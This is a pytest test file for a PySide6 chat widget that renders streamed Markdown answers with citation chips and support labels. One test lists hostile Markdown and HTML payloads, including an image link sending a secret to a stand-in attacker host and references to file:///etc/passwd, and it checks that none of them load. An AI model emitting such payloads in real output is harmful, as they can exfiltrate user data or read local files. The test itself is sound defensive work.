"""Streaming Markdown: finished blocks stay, states settle, nothing is loaded."""

import socket
from pathlib import Path

import pytest
from PySide6.QtCore import Qt, QUrl
from PySide6.QtGui import QGuiApplication, QTextDocument, QTextTable
from PySide6.QtTest import QTest
from pytestqt.qtbot import QtBot

from app.ui.appearance import Appearance
from app.ui.chat.answer_text import AnswerText
from app.ui.theme import DARK
from tests.helpers.fake_services import INVENTED, NOTICE, make_support

MARKDOWN = """# Title

A **bold** word and `code`.

- one
- two
  1. nested
  2. second

| a | b |
|---|---|
| 1 | 2 |

```
line one
line two
```

> quoted

Last [link](https://example.org/a).
"""


@pytest.fixture
def text(qtbot: QtBot, appearance: Appearance) -> AnswerText:
    made = AnswerText(appearance)
    qtbot.addWidget(made)
    made.resize(600, 10)
    made.show()
    return made


def stream(text: AnswerText, source: str, size: int = 3) -> None:
    for start in range(0, len(source), size):
        text.append_text(source[start : start + size])
        text.flush()


def test_streaming_ends_as_the_whole_text_does(
    qtbot: QtBot, appearance: Appearance, text: AnswerText
) -> None:
    stream(text, MARKDOWN)
    whole = AnswerText(appearance)
    qtbot.addWidget(whole)
    whole.set_text(MARKDOWN)
    assert text.toPlainText() == whole.toPlainText()
    assert text.written == MARKDOWN


def test_finished_blocks_are_not_drawn_again(text: AnswerText) -> None:
    text.append_text("First paragraph.\n\nSecond")
    text.flush()
    changes: list[int] = []
    text.document().contentsChange.connect(lambda at, _out, _in: changes.append(at))
    for word in (" one", " two", " three"):
        text.append_text(word)
        text.flush()
    assert changes
    assert min(changes) >= len("First paragraph.")


def test_pieces_that_come_together_are_drawn_once(
    qtbot: QtBot, text: AnswerText
) -> None:
    drawn: list[int] = []
    text.drawn.connect(lambda: drawn.append(1))
    for _ in range(40):
        text.append_text("word ")
    qtbot.waitUntil(lambda: bool(drawn), timeout=2000)
    assert len(drawn) == 1
    assert text.toPlainText().count("word") == 40


def test_the_height_never_shrinks_while_text_comes(text: AnswerText) -> None:
    heights = []
    text.document().documentLayout().documentSizeChanged.connect(
        lambda size: heights.append(size.height())
    )
    stream(text, "Some words in a paragraph that wraps. " * 20, 7)
    assert heights == sorted(heights)
    assert text.height() >= heights[-1]


def test_states_and_chips_stand_where_the_sentences_end(text: AnswerText) -> None:
    source = f"{NOTICE} {INVENTED} The rent is due."
    sentences = make_support(
        source,
        [
            (NOTICE, "supported", (0,)),
            (INVENTED, "unsupported", ()),
            ("The rent is due.", "weak", (1,)),
        ],
    )
    text.set_text(source, sentences)
    text.selectAll()
    copied = text.createMimeDataFromSelection().text()
    assert copied.split("\n") == [
        f"{NOTICE} [1]",
        f"{INVENTED} Not found in your documents.",
        "The rent is due. [2]\u2002Only partly found in your documents.",
    ]
    assert not text.createMimeDataFromSelection().hasHtml()


def test_states_inside_lists_and_emphasis(text: AnswerText) -> None:
    source = "- **Ninety days.**\n- Never.\n"
    sentences = make_support(
        source,
        [("- **Ninety days.**", "supported", (0,)), ("Never.", "unsupported", ())],
    )
    text.set_text(source, sentences)
    shown = text.toPlainText()
    assert "Ninety days." in shown
    assert "*" not in shown
    assert "Not found" in shown.split("\n")[1]


def test_a_table_after_an_unsupported_sentence_has_one_line_a_cell(
    text: AnswerText,
) -> None:
    source = f"{INVENTED}\n\n| a | b |\n|---|--:|\n| 1 | Never so. |\n"
    sentences = make_support(
        source, [(INVENTED, "unsupported", ()), ("Never so.", "unsupported", ())]
    )
    text.set_text(source, sentences)
    assert [line for line in text.toPlainText().split("\n") if line][1:4] == [
        "a",
        "b",
        "1",
    ]
    (table,) = [
        frame
        for frame in text.document().rootFrame().childFrames()
        if isinstance(frame, QTextTable)
    ]
    cells = [table.cellAt(y, x) for y in (0, 1) for x in (0, 1)]
    assert [
        c.firstPosition() + len(c.firstCursorPosition().block().text()) for c in cells
    ] == [c.lastPosition() for c in cells]


def test_hovering_a_chip_tells_the_quote_and_clicking_tells_its_number(
    qtbot: QtBot, text: AnswerText
) -> None:
    text.citation_tips = ("“The quote.”\nLease.pdf, page 7",)
    text.set_text(NOTICE, make_support(NOTICE, [(NOTICE, "supported", (0,))]))
    cursor = text.textCursor()
    cursor.movePosition(cursor.MoveOperation.End)
    cursor.movePosition(cursor.MoveOperation.PreviousCharacter)
    spot = text.cursorRect(cursor).center()
    assert text.tip_at(spot).startswith("“The quote.”")
    with qtbot.waitSignal(text.citation_clicked) as clicked:
        text.anchorClicked.emit(QUrl(text.anchorAt(spot)))
    assert clicked.args == [0]


def test_a_citation_is_opened_with_the_keyboard(qtbot: QtBot, text: AnswerText) -> None:
    text.set_text(NOTICE, make_support(NOTICE, [(NOTICE, "supported", (0,))]))
    text.setFocus()
    QTest.keyClick(text, Qt.Key.Key_Tab)
    with qtbot.waitSignal(text.citation_clicked) as clicked:
        QTest.keyClick(text, Qt.Key.Key_Return)
    assert clicked.args == [0]


HOSTILE = [
    "![x](https://evil.example/?q=secret)",
    "![x](file:///etc/passwd)",
    "![x][r]\n\n[r]: http://127.0.0.1:{port}/ref.png",
    "<img src='http://127.0.0.1:{port}/tag.png'>",
    "<iframe src='file:///etc/passwd'></iframe>",
    "<style>@import url(http://127.0.0.1:{port}/s.css)</style>",
    "<svg><image href='http://127.0.0.1:{port}/svg.png'/></svg>",
    "![x](data:image/png;base64,AAAA)",
    "![x](\\\\host\\share\\x.png)",
    "[![x](http://127.0.0.1:{port}/in-link.png)](http://127.0.0.1:{port}/)",
    "<http://127.0.0.1:{port}/auto>",
]


def test_nothing_in_a_text_is_loaded(
    text: AnswerText, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    server = socket.create_server(("127.0.0.1", 0))
    server.setblocking(False)
    port = server.getsockname()[1]
    asked: list[str] = []
    original = QTextDocument.loadResource

    def remember(*args: object) -> object:
        asked.append(str(args))
        return original(*args)  # type: ignore[arg-type]

    monkeypatch.setattr(QTextDocument, "loadResource", remember)
    for payload in HOSTILE:
        text.set_text(payload.format(port=port))
        text.grab()
        assert not any(
            f.format().isImageFormat()
            for block in _blocks(text.document())
            for f in block
        )
    with pytest.raises(BlockingIOError):
        server.accept()
    server.close()
    assert text.loadResource(2, QUrl("file:///etc/passwd")) is None
    assert not asked


def _blocks(document: QTextDocument) -> list[list]:  # type: ignore[type-arg]
    found = []
    block = document.begin()
    while block.isValid():
        fragments, place = [], block.begin()
        while not place.atEnd():
            fragments.append(FragmentFormat(place.fragment().charFormat()))
            place += 1
        found.append(fragments)
        block = block.next()
    return found


class FragmentFormat:
    """The format of one run of text."""

    def __init__(self, look) -> None:  # type: ignore[no-untyped-def]
        self._look = look

    def format(self):  # type: ignore[no-untyped-def]
        return self._look


def test_a_change_of_colours_reaches_the_text(
    appearance: Appearance, text: AnswerText
) -> None:
    text.set_text("Words.")
    appearance.set_theme("dark")
    colour = text.document().begin().begin().fragment().charFormat().foreground()
    assert colour.color().name().upper() == DARK.ink


def test_copy_puts_plain_text_on_the_clipboard(text: AnswerText) -> None:
    text.set_text("**Bold** words.")
    text.selectAll()
    text.copy()
    assert QGuiApplication.clipboard().text() == "Bold words."


def test_a_long_answer_streams_without_slowing_down(text: AnswerText) -> None:
    import time

    paragraph = "A paragraph of some length with several words in it. " * 4 + "\n\n"
    stream(text, paragraph * 120, len(paragraph))
    started = time.perf_counter()
    for _ in range(20):
        text.append_text("more ")
        text.flush()
    assert (time.perf_counter() - started) / 20 < 0.04
